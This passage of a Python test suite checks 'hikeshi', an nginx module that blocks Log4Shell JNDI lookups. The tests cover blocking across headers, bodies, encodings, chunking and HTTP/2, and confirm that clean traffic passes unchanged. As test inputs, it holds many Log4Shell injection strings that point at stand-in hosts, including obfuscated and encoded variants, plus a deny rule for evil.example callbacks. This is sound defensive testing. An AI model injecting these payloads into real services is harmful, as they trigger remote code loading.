"""The guard inside nginx: what it blocks, that it changes nothing else, and that it keeps standing."""
import base64, collections, gzip, hashlib, json, os, random, re, shutil, signal, socket, subprocess, sys, tempfile, threading
import time, unittest, urllib.parse, zlib

from edge import BUILD, MODULE, NGINX, Client, Nginx, Talk, Upstream, ask, free_port, request, to_bytes, wait_for

HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES = os.path.join(HERE, "../../../shared/data/lookups")
BAD = "${jndi:ldap://203.0.113.9:1389/a}"
with open(MODULE, "rb") as module:
    SANITIZED = b"__asan_init" in module.read()
PRELOAD = {}
if SANITIZED:
    libs = [subprocess.run(["gcc", "-print-file-name=" + x], capture_output=True, text=True).stdout.strip()
            for x in ("libasan.so", "libubsan.so")]
    # nginx itself does not free what it has at its end; the memory of requests is looked at in test_leaks
    PRELOAD = {"LD_PRELOAD": ":".join(libs), "ASAN_OPTIONS": "detect_leaks=0:log_path=DIR/sanitizer", "UBSAN_OPTIONS": "halt_on_error=1:print_stacktrace=1:log_path=DIR/sanitizer"}


def rules(*lines, version=1):
    text = "hikeshi-rules 1\nversion %d 2021-12-14T09:00:00Z\n" % version + "".join(x + "\n" for x in lines)
    return text + "checksum sha256 %s\n" % hashlib.sha256(text.encode()).hexdigest()


class Case(unittest.TestCase):
    """One nginx and one upstream for all tests of a class. HTTP is what stands in http {}; UPSTREAM in it is the upstream's port."""
    HTTP, FILES, MAIN, WORKERS = "", {}, "", 1

    @classmethod
    def setUpClass(cls):
        cls.upstream = Upstream()
        cls.edge = Nginx(cls.HTTP.replace("UPSTREAM", str(cls.upstream.port)), files=cls.FILES, main=cls.MAIN,
                         workers=cls.WORKERS, env=PRELOAD)
        try:
            cls.edge.start()
        except BaseException:
            cls.upstream.stop()
            raise

    @classmethod
    def tearDownClass(cls):
        cls.edge.stop()
        cls.upstream.stop()
        if cls.edge.alarms:
            raise AssertionError("nginx says: " + "\n".join(cls.edge.alarms))
        if re.search("AddressSanitizer|runtime error", cls.edge.said):
            raise AssertionError(cls.edge.said[-4000:])

    def setUp(self):
        self.upstream.take()

    def ask(self, path="/", **how):
        return ask(self.edge.port, path, **how)

    def events(self, name="events.json"):
        return [json.loads(x) for x in self.edge.read(name).splitlines()]

    def is_blocked(self, answer, where=""):
        self.assertEqual(answer.status, 403, where)
        self.assertIn("no-store", answer.headers.get("cache-control", ""))

    def unseen(self):
        """The upstream must not have got a request that was whole."""
        self.upstream.settle()
        self.assertEqual([x for x in self.upstream.take() if x["whole"] is not False], [])


# --- what is blocked

OWN = ["${jndi:ldap://203.0.113.9/a}", "${jndi:rmi://x.example:1099/a}", "${${lower:j}ndi:dns://x.example/a}",
       "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}", "${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://x.example/a}",
       "${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
       "%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D", "\\u0024\\u007bjndi:ldap://x.example/a\\u007d",
       "&#36;&#123;jndi:ldap://x.example/a&#125;", base64.b64encode(b"${jndi:ldap://x.example/a}").decode(),
       "${jndi:ldap://x.example/a", "${jnd${upper:\u0131}:ldap://x.example/a}"]
OWN_BENIGN = ["GET /app.js?v=${version}", "${user.id} joined, indexing: model update", "$price {a} 100% \\u0041 &#36;",
              "image=registry/app:${TAG:-latest} node indices: 42", "jndi:ldap://x.example/a", "{{ template }} ${name}",
              "%24%7Bname%7D", base64.b64encode(b"nothing to see here, only some text").decode()]


def labelled():
    """(attacks, encoded ones, benign texts): the labelled data where it exists, our own always."""
    attacks, encoded, benign = [to_bytes(x) for x in OWN], [], [to_bytes(x) for x in OWN_BENIGN]
    if os.path.isdir(SAMPLES):
        with open(os.path.join(SAMPLES, "collected.tsv"), "rb") as f:
            attacks += [x.rstrip(b"\r\n").split(b"\t", 4)[4] for x in f if x.strip()]
        folder = os.path.join(SAMPLES, "encoded")
        for name in sorted(os.listdir(folder)):
            with open(os.path.join(folder, name), "rb") as f:
                encoded += [x.rstrip(b"\r\n") for x in f if x.strip()]
        with open(os.path.join(SAMPLES, "benign-tricky.log"), "rb") as f:
            benign += [x.rstrip(b"\r\n") for x in f if x.strip()]
    return attacks, encoded, benign


def quote(x):
    return urllib.parse.quote_from_bytes(x, safe="")


def multipart(name=b"a", filename=None, content=b"x"):
    disposition = b'form-data; name="%s"' % name.replace(b'"', b"%22")
    if filename is not None:
        disposition += b'; filename="%s"' % filename.replace(b'"', b"%22")
    return {"headers": {"Content-Type": "multipart/form-data; boundary=xYzZY"},
            "body": b"--xYzZY\r\nContent-Disposition: form-data; name=\"first\"\r\n\r\n1\r\n--xYzZY\r\n"
                    b"Content-Disposition: " + disposition + b"\r\n\r\n" + content + b"\r\n--xYzZY--\r\n"}


def as_json(x, ascii_only=False):
    text = json.dumps({"first": 1, "a": [{"note": x.decode("utf-8", "replace")}]}, ensure_ascii=ascii_only)
    return {"headers": {"Content-Type": "application/json"}, "body": text.encode()}


def form(data):
    return {"headers": {"Content-Type": "application/x-www-form-urlencoded"}, "body": data}


MAIN_PLACES = {
    "header": lambda x: {"headers": [("X-Api-Version", x)]},
    "argument": lambda x: {"path": "/up?first=1&q=" + quote(x)},
    "form": lambda x: form("first=1&a=" + quote(x)),
    "JSON": as_json,
    "multipart": lambda x: multipart(content=x),
}
MORE_PLACES = {
    "user agent": lambda x: {"headers": [("User-Agent", b"Mozilla/5.0 " + x + b" Gecko")]},
    "cookie": lambda x: {"headers": [("Cookie", b"a=b; sid=" + x)]},
    "path": lambda x: {"path": "/up/" + quote(x) + "/z"},
    "name of an argument": lambda x: {"path": "/up?" + quote(x) + "=1"},
    "name of a field": lambda x: form(quote(x) + "=1"),
    "name of a member": lambda x: {"headers": {"Content-Type": "application/json"},
                                   "body": json.dumps({x.decode("utf-8", "replace"): 1})},
    "JSON in ASCII": lambda x: as_json(x, True),
    "file name": lambda x: multipart(filename=x),
    "file": lambda x: multipart(filename=b"a.txt", content=b"line\n" + x + b"\nline"),
    "XML": lambda x: {"headers": {"Content-Type": "application/xml"}, "body":
                      b"<a><b c='1'>" + x.replace(b"&", b"&amp;").replace(b"<", b"&lt;") + b"</b></a>"},
    "JSON in UTF-16": lambda x: {"headers": {"Content-Type": "application/json"},
                                 "body": as_json(x, True)["body"].decode().encode("utf-16-le")},
    "word of a file name": lambda x: multipart(filename=b"=?UTF-8?Q?" + b"".join(b"=%02X" % c for c in x) + b"?="),
    "text": lambda x: {"headers": {"Content-Type": "text/plain"}, "body": b"a line\n" + x + b"\na line"},
    "no type": lambda x: {"body": x},
    "PUT": lambda x: {"method": "PUT", "body": x},
    "GET with a body": lambda x: {"method": "GET", "body": x},
    "gzip": lambda x: {"headers": {"Content-Type": "application/json", "Content-Encoding": "gzip"},
                       "body": gzip.compress(as_json(x)["body"])},
    "deflate": lambda x: {"headers": {"Content-Encoding": "deflate"}, "body": zlib.compress(b"q" * 300 + x)},
    "chunks": lambda x: {"chunks": [b"a=" + x[:7], x[7:]] if len(x) > 7 else [x]},
}
# what stands on either side of a border says something else by itself
SPLIT_PLACES = {
    "XML in a section": lambda x: {"headers": {"Content-Type": "application/soap+xml"}, "body":
                                   b"<a><b>" + x[:1].replace(b"&", b"&amp;").replace(b"<", b"&lt;") + b"<![CDATA[" +
                                   x[1:].replace(b"]]>", b"]]>]]&gt;<![CDATA[") + b"]]></b></a>"},
}



class Vectors(Case):
    HTTP = """hikeshi block; hikeshi_event_rate off; hikeshi_events DIR/events.json; client_body_buffer_size 32k;
        large_client_header_buffers 4 32k; keepalive_requests 100000;
        server { listen 127.0.0.1:PORT; location / { proxy_pass http://127.0.0.1:UPSTREAM; } }"""

    def go(self, texts, places, blocked):
        wrong = collections.Counter()
        first = {}
        with Talk(self.edge.port) as talk:
            for place, how in places.items():
                for x in texts:
                    answer = talk.ask(**{"path": "/up", **how(x)})
                    if (answer.status == 403) != blocked or (not blocked and answer.status != 200):
                        wrong[place] += 1
                        first.setdefault(place, (answer.status, x))
        self.assertFalse(wrong, "\n".join("%s: %d of %d, first %r" % (k, n, len(texts), first[k]) for k, n in wrong.items()))
        if blocked:
            self.unseen()
            self.assertEqual({x["event"]["action"] for x in self.events()}, {"blocked"})

    def test_attacks_are_blocked_in_the_main_places(self):
        self.go(labelled()[0], MAIN_PLACES, True)

    def test_attacks_are_blocked_everywhere_else(self):
        self.go([x for x in labelled()[0] if x not in EDGE_OF_A_TEXT], {**MORE_PLACES, **SPLIT_PLACES}, True)

    def test_encoded_attacks_are_blocked(self):
        self.go(labelled()[1] or [to_bytes(OWN[6])], MAIN_PLACES, True)

    def test_benign_texts_pass(self):
        self.go(labelled()[2], {**MAIN_PLACES, **MORE_PLACES}, False)

    def test_events_name_the_field(self):
        for how, want in (({"headers": {"X-Api-Version": BAD}}, "header:x-api-version"),
                          ({"headers": {"Cookie": "a=1; sid=" + BAD}}, "cookie:sid"),
                          ({"path": "/up?a=1&q=" + urllib.parse.quote(BAD)}, "arg:q"),
                          ({"path": "/up/" + urllib.parse.quote(BAD)}, "uri"),
                          (form("a=1&note=" + urllib.parse.quote(BAD)), "form:note"),
                          (as_json(to_bytes(BAD)), "json:/a/0/note"),
                          (multipart(name=b"up", filename=to_bytes(BAD)), "file:up"),
                          (multipart(name=b"note", content=to_bytes(BAD)), "form:note"),
                          (MORE_PLACES["XML"](to_bytes(BAD)), "xml:a/b"),
                          ({"body": BAD, "headers": {"Content-Type": "text/plain"}}, "body")):
            n = len(self.events())
            self.is_blocked(self.ask(**{"path": "/up", **how}), want)
            event = self.events()[n]
            self.assertEqual(event["hikeshi"]["field"], want)
            self.assertEqual(event["hikeshi"]["key"], "ldap://203.0.113.9:1389/a")
            self.assertEqual(event["hikeshi"]["verdict"], "reaches")


# What is an attack only as the end of a text: behind it another text would have to close it.
EDGE_OF_A_TEXT = set()


# --- how it comes in

class Pieces(Case):
    HTTP = """hikeshi block; hikeshi_event_rate off; client_body_buffer_size 1k; client_header_buffer_size 256;
        large_client_header_buffers 8 32k; proxy_http_version 1.1;
        server { listen 127.0.0.1:PORT;
            location / { proxy_pass http://127.0.0.1:UPSTREAM; }
            location /unbuffered { proxy_request_buffering off; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /file { client_body_in_file_only clean; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /single { client_body_in_single_buffer on; client_body_buffer_size 64k;
                               proxy_pass http://127.0.0.1:UPSTREAM; }
        }"""
    LOCATIONS = ("/", "/unbuffered", "/file", "/single")

    def cut(self, data, places, pause=0.0):
        with Client(self.edge.port) as c:
            at = 0
            for place in [*places, len(data)]:
                c.send(data[at:place])
                at = place
                if place < len(data):
                    time.sleep(pause)
            return c.answer()

    def test_heads_cut_anywhere(self):
        for value, status in ((BAD, 403), ("nothing", 200)):
            data = request("/?q=1", headers=[("User-Agent", "curl/7"), ("X-A", value), ("X-B", "2")])
            for place in range(1, len(data)):
                answer = self.cut(data, [place], 0.001)
                self.assertEqual(answer.status, status, place)

    def test_bodies_cut_anywhere(self):
        for location in self.LOCATIONS:
            for value, status in ((BAD, 403), ("nothing", 200)):
                data = request(location, **form("a=1&b=" + value + "&c=3"))
                head = data.index(b"\r\n\r\n") + 4
                for place in range(head, len(data)):
                    answer = self.cut(data, [place], 0.001)
                    self.assertEqual(answer.status, status, (location, place))
        self.assertEqual({x["body"] for x in self.upstream.take() if x["whole"]}, {b"a=1&b=nothing&c=3"})

    def test_one_byte_at_a_time(self):
        for value, status in ((BAD, 403), ("nothing", 200)):
            for how in ({"headers": {"X-A": value}}, form("b=" + value), {"chunks": [to_bytes("b=" + value), b"&c=1"]}):
                data = request("/", **how)
                answer = self.cut(data, range(1, len(data)), 0.0005)
                self.assertEqual(answer.status, status, how)

    def test_chunks_of_any_size(self):
        body = to_bytes("a=1&b=" + BAD + "&c=3" + "x" * 300)
        clean = body.replace(b"jndi", b"name")
        for location in self.LOCATIONS:
            for size in (1, 2, 3, 7, 16, 64, 200, 1000):
                for data, status in ((body, 403), (clean, 200)):
                    chunks = [data[i:i + size] for i in range(0, len(data), size)]
                    answer = self.ask(location, chunks=chunks)
                    self.assertEqual(answer.status, status, (location, size))
        self.assertEqual({x["body"] for x in self.upstream.take() if x["whole"]}, {clean})

    def test_bodies_larger_than_any_buffer(self):
        for location in self.LOCATIONS:
            for n in (900, 1023, 1024, 1025, 5000, 40000):
                for at in (0, n // 2, n):
                    body = b"x" * at + to_bytes(BAD) + b"x" * (n - at)
                    self.assertEqual(self.ask(location, body=body).status, 403, (location, n, at))
                body = b"y" * n
                self.assertEqual(self.ask(location, body=body).body, b"POST got %d\n" % n, (location, n))
        self.assertEqual({x["body"][:1] for x in self.upstream.take() if x["whole"]}, {b"y"})

    def test_attack_across_the_border_of_the_buffer(self):
        for location in self.LOCATIONS:
            for at in range(1024 - len(BAD) - 2, 1026):
                body = b"x" * at + to_bytes(BAD) + b"x" * 900
                data = request(location, body=body)
                with Client(self.edge.port) as c:  # the head alone, so that the body begins with its buffer
                    c.send(data[:-len(body)])
                    time.sleep(0.002)
                    c.send(body)
                    self.assertEqual(c.answer().status, 403, (location, at))
        self.unseen()

    def test_attack_across_what_came_with_the_head(self):
        for location in self.LOCATIONS:
            for text in (BAD, "\\" + "u" * 700 + "0024{jndi:ldap://x.example/a}", "%2524%257Bjndi%253Aldap%253A%252F%252Fx%252Fa%257D"):
                body = b"a=1&b=" + to_bytes(text) + b"&c=" + b"x" * 5000
                data = request(location, body=body)
                head = len(data) - len(body)
                for cut in [*range(head + 1, head + 60), head + 300, head + 700, head + 720]:
                    self.assertEqual(self.cut(data, [cut], 0.001).status, 403, (location, text, cut - head))
        self.unseen()

    def test_unbuffered_upstreams_never_see_the_end(self):
        def mine():  # what other tests broke off may still come in
            return [x for x in self.upstream.seen if x["path"] == "/unbuffered/end"]
        data = request("/unbuffered/end", body=b"z" * 20000 + to_bytes(BAD) + b"z" * 100)
        with Client(self.edge.port) as c:
            c.send(data[:15000])
            self.assertTrue(wait_for(mine))
            time.sleep(0.05)
            c.send(data[15000:])
            self.assertEqual(c.answer().status, 403)
        seen = wait_for(lambda: [x for x in mine() if "body" in x])
        self.assertEqual(len(seen), 1)
        self.assertFalse(seen[0]["whole"])
        self.assertNotIn(b"$", seen[0]["body"])

    def test_expect_100_continue(self):
        for value, status in ((BAD, 403), ("nothing", 200)):
            for location in self.LOCATIONS:
                body = to_bytes("a=" + value)
                with Client(self.edge.port) as c:
                    c.send(request(location, headers={"Expect": "100-continue"}, body=body)[:-len(body)])
                    self.assertEqual(c.answer().status, 100)
                    c.send(body)
                    self.assertEqual(c.answer().status, status)
        # a bad head is refused before the client sends its body
        with Client(self.edge.port) as c:
            c.send(request("/", headers={"Expect": "100-continue", "X-A": BAD}, body=b"abc")[:-3])
            self.assertEqual(c.answer().status, 403)

    def test_pipelined_requests_get_their_own_answers(self):
        one, bad = request("/a"), request("/b", headers={"X-A": BAD})
        post, last = request("/c", body=b"name=value"), request("/d", close=True)
        for order in ([one, bad, one, post, bad, last], [post, post, bad, post, one, last], [bad] * 5 + [last]):
            with Client(self.edge.port) as c:
                c.send(b"".join(order))
                got = [c.answer().status for _ in order]
                self.assertEqual(got, [403 if x is bad else 200 for x in order])
                self.assertTrue(c.ended())

    def test_the_rest_of_a_blocked_body_is_no_request(self):
        hidden = request("/hidden")
        for location in self.LOCATIONS:
            for rest in (b"", b"x" * 3000):
                body = to_bytes(BAD) + rest + hidden
                for data in (request(location, body=body), request(location, chunks=[body, hidden]),
                             request(location, body=body) + hidden):
                    with Client(self.edge.port) as c:
                        c.send(data)
                        self.assertEqual(c.answer().status, 403)
                        self.assertTrue(c.ended(), location)
        self.assertEqual([x for x in self.upstream.take() if x["path"] == "/hidden"], [])

    def test_large_heads(self):
        long = "y" * 15000
        for headers in ([("X-Long", long)], [("X-%d" % i, "z" * 1500) for i in range(40)],
                        [("X-Long", long), ("X-Next", long)]):
            self.assertEqual(self.ask("/", headers=headers).status, 200)
            for at in range(len(headers) + 1):
                bad = headers[:at] + [("X-Bad", "q" * 5000 + BAD)] + headers[at:]
                self.is_blocked(self.ask("/", headers=bad), at)
            for i, (name, value) in enumerate(headers):
                bad = headers[:i] + [(name, value + BAD)] + headers[i + 1:]
                self.is_blocked(self.ask("/", headers=bad), name)
        self.assertEqual(self.ask("/?q=" + long).status, 200)
        self.is_blocked(self.ask("/?q=" + long + urllib.parse.quote(BAD)))
        self.is_blocked(self.ask("/" + long + "?q=" + urllib.parse.quote(BAD) + "&" + long))
        self.is_blocked(self.ask("/?q=" + long, headers=[("X-Bad", BAD)]))
        # what nginx refuses, it refuses as before
        self.assertEqual(self.ask("/", headers=[("X-Long", "y" * 40000)]).status, 400)

    def test_http_1_0_and_0_9(self):
        for head, status in ((b"GET / HTTP/1.0\r\n\r\n", 200), (b"GET / HTTP/1.0\r\nX: %b\r\n\r\n" % to_bytes(BAD), 403)):
            with Client(self.edge.port) as c:
                c.send(head)
                self.assertEqual(c.answer().status, status)
        with Client(self.edge.port) as c:
            c.send(b"GET /%b\r\n" % to_bytes(BAD.replace("{", "%7b").replace("}", "%7d")))
            while c.fill():
                pass
            self.assertIn(b"Request not accepted", c.buffer)

    def test_other_forms_of_a_target(self):
        q = to_bytes(urllib.parse.quote(BAD))
        for target, status in ((b"http://localhost/?q=" + q, 403), (b"http://localhost?q=" + q, 403), (b"http://localhost/" + q, 403),
                               (b"http://localhost/a?q=1", 200), (b"/a#" + q, 403), (b"/a?b#" + q, 403), (b"/?" + q, 403),
                               (b"/a%00?q=" + q, 400), (b"//" + q + b"//", 403), (b"/./" + q + b"/../a", 403)):
            with Client(self.edge.port) as c:
                c.send(b"GET " + target + b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                self.assertEqual(c.answer().status, status, target)

    def test_what_nginx_itself_drops(self):
        self.assertEqual(self.ask("/", headers=[("under_score", BAD)]).status, 200)
        with Client(self.edge.port) as c:
            c.send(request("/", chunks=[b"abc"])[:-2] + b"X-Trailer: " + to_bytes(BAD) + b"\r\n\r\n")
            self.assertEqual(c.answer().status, 200)
        self.assertNotIn("jndi", repr(self.upstream.take()))

    def test_a_client_that_goes_away(self):
        for _ in range(50):
            for data in (request("/", body=b"x" * 3000), request("/unbuffered", chunks=[b"x" * 3000, to_bytes(BAD)])):
                with Client(self.edge.port) as c:
                    c.send(data[:random.randrange(1, len(data))])
        self.assertEqual(self.ask("/").status, 200)


class Http2(Case):
    HTTP = """hikeshi block; hikeshi_event_rate off; hikeshi_events DIR/events.json; client_body_buffer_size 1k;
        large_client_header_buffers 4 32k;
        server { listen 127.0.0.1:PORT http2;
            location / { proxy_pass http://127.0.0.1:UPSTREAM; }
            location /unbuffered { proxy_request_buffering off; proxy_http_version 1.1;
                                   proxy_pass http://127.0.0.1:UPSTREAM; } }"""

    def curl(self, path, *args, body=None):
        r = subprocess.run(["curl", "-sS", "-g", "-m", "30", "--http2-prior-knowledge", "-o", "-", "-w", "\n%{http_code}",
                            "http://127.0.0.1:%d%s" % (self.edge.port, path), *args, *(["--data-binary", "@-"] if body else [])],
                           input=body, capture_output=True)
        # 18, 92: refused while it was still sending, which this client takes for a broken stream, of nginx alone as well
        self.assertIn(r.returncode, (0, 18, 92) if body and len(body) > 100000 else (0,), r.stderr)
        text, status = r.stdout.rsplit(b"\n", 1)
        return 403 if r.returncode else int(status), text

    def test_heads(self):
        self.assertEqual(self.curl("/", "-H", "X-A: nothing")[0], 200)
        status, text = self.curl("/", "-H", "X-A: " + BAD)
        self.assertEqual(status, 403)
        self.assertIn(self.events()[-1]["event"]["id"].encode(), text)
        for args in (("-H", "Cookie: a=1; sid=" + BAD), ("-A", "Mozilla " + BAD), ("-H", "X-L: " + "y" * 9000 + BAD),
                     ("-H", "Host: localhost", "-H", "Referer: " + BAD)):
            self.assertEqual(self.curl("/", *args)[0], 403, args)
        self.assertEqual(self.curl("/?q=" + urllib.parse.quote(BAD))[0], 403)
        self.assertEqual(self.curl("/" + urllib.parse.quote(BAD))[0], 403)
        self.unseen_but(1)

    def unseen_but(self, n):
        self.assertEqual(len([x for x in self.upstream.take() if x["whole"]]), n)

    def test_bodies(self):
        for location in ("/", "/unbuffered"):
            for n in (1, 900, 1024, 1025, 20000, 300000):
                self.assertEqual(self.curl(location, body=b"x" * n), (200, b"POST got %d\n" % n))
                for at in (0, n // 2, n):
                    body = b"y" * at + to_bytes(BAD) + b"y" * (n - at)
                    events = len(self.events())
                    self.assertEqual(self.curl(location, body=body)[0], 403, (location, n, at))
                    self.assertEqual([x["event"]["action"] for x in self.events()[events:]], ["blocked"])
        self.assertEqual({x["body"][:1] for x in self.upstream.take() if x["whole"]}, {b"x"})

    def test_many_streams(self):
        for flag, status in (("X-A: nothing", b"2xx"), ("X-A: " + BAD, b"4xx")):
            r = subprocess.run(["h2load", "-n", "2000", "-c", "4", "-m", "20", "-H", flag,
                                "http://127.0.0.1:%d/status/204" % self.edge.port], capture_output=True, timeout=120)
            self.assertIn(b"2000 " + status, r.stdout, r.stdout)


# --- nothing else changes

class SameAnswers(unittest.TestCase):
    """A recorded set of clean requests against nginx alone and against nginx with the guard: the same bytes, in both directions."""
    HTTP = """%s client_body_buffer_size 1k; client_max_body_size 100k; large_client_header_buffers 4 8k;
        gzip on; gzip_min_length 10; gzip_types text/plain; ssi on; proxy_http_version 1.1;
        server { listen 127.0.0.1:PORT; server_name localhost;
            error_page 404 /404.txt;
            error_page 502 503 @sorry;
            location / { index index.txt; autoindex on; }
            location /up { proxy_pass http://127.0.0.1:UPSTREAM; }
            location /status { proxy_pass http://127.0.0.1:UPSTREAM; proxy_intercept_errors on; }
            location /unbuffered { proxy_request_buffering off; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /fail { proxy_pass http://127.0.0.1:UPSTREAM; }
            location /dead { proxy_pass http://127.0.0.1:1; }
            location @sorry { return 200 "sorry $status $uri"; }
            location /old { rewrite ^/old(.*)$ /new$1 last; }
            location /new { return 200 "new $uri $args"; }
            location /moved { return 301 /new; }
            location /teapot { return 418; }
            location /try { try_files $uri /index.txt; }
            location /auth { auth_request /check; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /noauth { auth_request /nocheck; proxy_pass http://127.0.0.1:UPSTREAM; }
            location = /check { internal; proxy_pass http://127.0.0.1:UPSTREAM/status/204; proxy_pass_request_body off;
                                proxy_set_header Content-Length ""; }
            location = /nocheck { internal; return 403; }
            location /mirror { mirror /copy; proxy_pass http://127.0.0.1:UPSTREAM; }
            location = /copy { internal; proxy_pass http://127.0.0.1:UPSTREAM/copy; }
            location /limited { limit_except GET { deny all; } }
            location /denied { deny all; }
            location /dav { dav_methods PUT DELETE; create_full_put_path on; }
            location /small { client_max_body_size 10; proxy_pass http://127.0.0.1:UPSTREAM; }
        }"""
    FILES = {"html/index.txt": "index\n", "html/404.txt": "nothing there\n", "html/big.txt": "0123456789abcdef" * 4096,
             "html/page.shtml": "<!--# include virtual=\"/up/part\" --> and <!--# include virtual=\"/index.txt\" -->\n",
             "html/dir/a.txt": "a", "html/dir/b.txt": "b"}
    MODES = ["hikeshi block;", "hikeshi report;", "hikeshi off;", "hikeshi block; hikeshi_events DIR/events.json; hikeshi_rules DIR/rules;"]

    def recorded(self):
        agent = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0"),
                 ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8"),
                 ("Accept-Language", "ja,en-US;q=0.7,en;q=0.3"), ("Accept-Encoding", "gzip, deflate"),
                 ("Cookie", "sid=0123456789abcdef; theme=dark; basket=%7B%22a%22%3A1%7D"), ("Upgrade-Insecure-Requests", "1")]
        for path in ("/", "/index.txt", "/big.txt", "/dir/", "/dir", "/page.shtml", "/nothing", "/up", "/up?a=1&b=%24%7Bname%7D",
                     "/status/204", "/status/404", "/status/500", "/status/503", "/fail", "/dead", "/old/a?b=c", "/moved",
                     "/teapot", "/try/x", "/auth", "/noauth", "/limited", "/denied", "/up/%E7%81%AB%E6%B6%88%E3%81%97", "/../etc",
                     "/up//a/./b/../c", "/%zz", "/up?" + "q=x&" * 1500):
            yield request(path, headers=agent)
            yield request(path, method="HEAD", headers=agent)
            yield request(path, headers=[("Range", "bytes=2-5")])
            yield request(path, method="OPTIONS")
        for path in ("/up", "/unbuffered", "/mirror", "/auth", "/index.txt", "/old", "/dead", "/fail", "/small", "/noauth"):
            yield request(path, headers=[*agent, ("Content-Type", "application/x-www-form-urlencoded")],
                          body="a=1&b=%24&c=" + "x" * 50)
            for n in (0, 1, 1000, 1023, 1024, 1025, 9000, 99000, 200000):
                yield request(path, body=b"b" * n)
            yield request(path, chunks=[b"abc"])
            yield request(path, chunks=[b"c" * 900] * 5)
            yield request(path, **as_json(b"a note with $ and { and jndi"))
            yield request(path, **multipart(filename=b"a b.txt", content=b"\x00\x01\xff" * 300))
            yield request(path, headers=[("Content-Type", "application/json"), ("Content-Encoding", "gzip")],
                          body=gzip.compress(b'{"a": "b"}' * 400, mtime=0))
            yield request(path, headers=[("Expect", "100-continue")], body=b"abc")
        yield request("/dav/x/y.txt", method="PUT", body=b"d" * 5000)
        yield request("/dav/x/y.txt")
        yield request("/dav/x/y.txt", method="DELETE")
        yield b"GET / HTTP/1.0\r\n\r\n"
        yield b"GET /index.txt\r\n"
        yield b"GET / HTTP/1.1\r\n\r\n"
        yield b"\x00\x01\r\n\r\n"
        yield b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"
        yield b"POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n"
        yield b"POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip\r\n\r\n"
        yield b"POST /up HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"
        yield b"POST /up HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nabcdeGET /index.txt HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
        yield b"GET /index.txt HTTP/1.1\r\nHost: a\r\nX: " + b"y" * 9000 + b"\r\n\r\n"
        yield b"GET /index.txt HTTP/1.1\r\nHost: a\r\nConnection: close\r\n" + b"X_under: 1\r\nNo colon\r\n\r\n"
        yield b"".join(request("/up/%d" % i) for i in range(20))
        yield b"".join(request("/up/%d" % i, body=b"p" * i * 100) for i in range(20))

    def exchange(self, port, data):
        """All that comes back until the server closes, without what differs each time. Behind what is well formed a
        last request follows at once; the rest nginx answers with an end of the connection."""
        whole = re.match(rb"[A-Z]+ /\S* HTTP/1.1\r\nHost: localhost", data)
        with Client(port, timeout=60) as c:
            c.send(data + request("/new/last", close=True) if whole else data)
            try:
                while c.fill():
                    pass
            except ConnectionResetError:
                pass
            text = re.sub(rb"\r\n(Date|Last-Modified): [^\r]*", b"", c.buffer)
            text = re.sub(rb'\r\nETag: [^\r]*', b"", text)
            return re.sub(rb"\d\d-\w{3}-\d{4} \d\d:\d\d", b"WHEN", text).replace(b":%d" % port, b":PORT")

    @staticmethod
    def calm(seen, port):
        rows = [(x["method"], x["path"], sorted((k, v.replace(":%d" % port, ":PORT")) for k, v in x["headers"].items()),
                 x["whole"], x.get("body")) for x in seen]
        return sorted(rows, key=repr)

    def test_the_same_bytes(self):
        recorded = list(self.recorded())
        upstream = Upstream()
        self.addCleanup(upstream.stop)
        answers = {}
        for mode in [None, *self.MODES]:
            files = {**self.FILES, "rules": rules("site shop.example block", "deny callback *.evil.example",
                                                  'patch X-1 method=POST path=/none pattern="union\\s+select"')}
            edge = Nginx(self.HTTP.replace("UPSTREAM", str(upstream.port)) % (mode or ""), guard=mode is not None, files=files,
                         env=PRELOAD if mode else None)
            edge.start()
            rows = []
            try:
                for data in recorded:
                    upstream.take()
                    answer = self.exchange(edge.port, data)
                    upstream.settle()
                    rows.append((answer, self.calm(upstream.take(), edge.port)))
                events = edge.read("events.json")
            finally:
                edge.stop()
            self.assertEqual(events, "")
            answers[mode] = rows
        self.assertGreater(sum(1 for a, _ in answers[None] if a.startswith(b"HTTP/1.1 2")), 120)
        for mode in self.MODES:
            for data, alone, guarded in zip(recorded, answers[None], answers[mode]):
                self.assertEqual(alone, guarded, (mode, data[:200]))


# --- directives

class Directives(Case):
    HTTP = """hikeshi block; hikeshi_events DIR/events.json; hikeshi_event_rate off; log_not_found off;
        log_format guard '$uri $status verdict=$hikeshi_verdict action=$hikeshi_action id=$hikeshi_id rule=$hikeshi_rule field=$hikeshi_field';
        access_log DIR/access.log guard;
        server { listen 127.0.0.1:PORT; server_name one.example;
            location / { }
            location /off { hikeshi off; return 200 off; }
            location /report { hikeshi report; proxy_pass http://127.0.0.1:UPSTREAM; }
            location /report/block { hikeshi block; return 200 inner; }
            location /return { return 200 returned; }
            location /rewrite { hikeshi off; rewrite ^ /return last; }
            location /softer { rewrite ^ /report last; }
            location /harder { hikeshi report; rewrite ^ /return last; }
            location /named { hikeshi report; try_files /none @named; }
            location @named { hikeshi block; return 200 named; }
            location /status { hikeshi_status 418; return 200 x; }
            location /closed { hikeshi_status 444; return 200 x; location /closed/up { proxy_pass http://127.0.0.1:UPSTREAM; } }
            location /page { hikeshi_page /blocked.html; location /page/inner { return 200 x; } return 200 x; }
            location /page/default { hikeshi_page default; return 200 x; }
            location /page/named { hikeshi_page @page; return 200 x; }
            location @page { return 200 "named page $hikeshi_id"; }
            location /page/app { hikeshi_page /report/page; return 200 x; }
            location /page/missing { hikeshi_page /not-there; return 200 x; }
